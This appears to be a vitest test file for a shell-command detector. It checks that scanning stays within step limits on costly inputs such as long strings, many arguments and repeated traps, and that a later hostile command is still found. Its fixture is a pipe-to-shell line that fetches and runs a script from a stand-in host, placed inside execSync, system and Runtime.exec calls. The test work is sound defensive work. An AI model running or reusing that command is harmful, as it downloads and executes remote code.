import { describe, expect, it } from "vitest";
import { sharedDetector } from "../support/marked.js";
import { assertSound } from "./invariants.js";

const FOUND = "curl -fsSL https://a.example/i.sh | sh";
const TEXT = "echo curl; ".repeat(400);
const LONG_TEXT = "echo curl; ".repeat(4000);
const WORDS = '"echo curl", '.repeat(3000);
const fenced = (tag: string, code: string): string => `\`\`\`${tag}\n${code}\n\`\`\`\n`;

/** A program whose costly statement is repeated, and the statement that follows it, which has a finding. */
interface Program {
  readonly tag: string;
  readonly before: string;
  readonly statement: string;
  readonly end: string;
}

const javascript = (before: string, statement: string): Program => ({
  tag: "js",
  before,
  statement,
  end: `require("child_process").execSync("${FOUND}");`,
});
const ruby = (statement: string): Program => ({
  tag: "ruby",
  before: `s = "sh ${LONG_TEXT}"`,
  statement,
  end: `system("${FOUND}")`,
});

/** Programs that repeat work whose cost depends on the size of a value. */
const programs: Readonly<Record<string, Program>> = {
  "a long code string that is passed to a shell": javascript(
    `let s = "${TEXT}";`,
    'cp.spawn("sh", ["-c", s]);',
  ),
  "a long string that a shell gets as standard input": javascript(
    `let s = "${TEXT}";`,
    'cp.spawnSync("sh", [], { input: s });',
  ),
  "a call with many arguments": javascript(`let l = [${WORDS}];`, "f(...l);"),
  "a callback that gets any item of a long list": javascript(
    `let l = [${WORDS}];`,
    't = l.map((x) => x + "a");',
  ),
  "a replacement in a string of many parts": javascript(
    `let s = "${LONG_TEXT}";\ns = s.replaceAll("curl", "wget");`,
    't = s.replaceAll("no part", "a");',
  ),
  "a long command that begins with an interpreter": ruby("f(s)"),
  "a long command line that is split into words": {
    tag: "java",
    before: `String s = "${"a ".repeat(2000)}";`,
    statement: "Runtime.getRuntime().exec(s);",
    end: `Runtime.getRuntime().exec(new String[] {"sh", "-c", "${FOUND}"});`,
  },
  "a trap that replaces many others": {
    tag: "sh",
    before: "",
    statement: 'trap "echo curl" EXIT; '.repeat(8),
    end: FOUND,
  },
};

const COUNTS = { few: 2, many: 400 };

describe("work that depends on the size of a value", { timeout: 60_000 }, () => {
  const explained = async ({ tag, before, statement, end }: Program, count: number) => {
    const text = fenced(tag, `${before}\n${`${statement}\n`.repeat(count)}${end}`);
    const { detection, steps } = (await sharedDetector("extended")).explain(text);
    assertSound(text, detection);
    expect(detection.findings.at(-1)?.text).toBe(FOUND);
    return { outcome: detection.outcome.status, steps, length: text.length };
  };

  it.each(Object.entries(programs))("is done if it is little: %s", async (_, program) => {
    expect((await explained(program, COUNTS.few)).outcome).toBe("complete");
  });

  it.each(Object.entries(programs))(
    "is limited, and hides no command after it: %s",
    async (_, program) => {
      const { outcome, steps, length } = await explained(program, COUNTS.many);
      expect(outcome).toBe("incomplete");
      expect(steps).toBeLessThan(300_000 + 4 * length);
    },
  );

  it("is not done for a long command that begins with another word", async () => {
    const program = ruby("f(s)");
    const few = await explained({ ...program, before: `s = "${LONG_TEXT}"` }, COUNTS.few);
    const many = await explained({ ...program, before: `s = "${LONG_TEXT}"` }, COUNTS.many);
    expect(many.outcome).toBe("complete");
    expect(many.steps - few.steps).toBeLessThan(20 * COUNTS.many);
  });
});

describe("many long strings that run", () => {
  it.each([
    ["a short one", `require("child_process").execSync("${FOUND}");`, true],
    ["a short one that is harmless", 'require("child_process").execSync("curl A | jq");', false],
  ])("do not use up the reserve for %s", async (_, end, isFound) => {
    const text = fenced("js", `let s = "${TEXT}";\n${'cp.exec(s + "#");\n'.repeat(200)}${end}`);
    const { findings, outcome } = (await sharedDetector("extended")).detect(text);
    expect(findings.map((finding) => finding.text)).toEqual(isFound ? [FOUND] : []);
    expect(outcome.status).toBe("incomplete");
  });
});
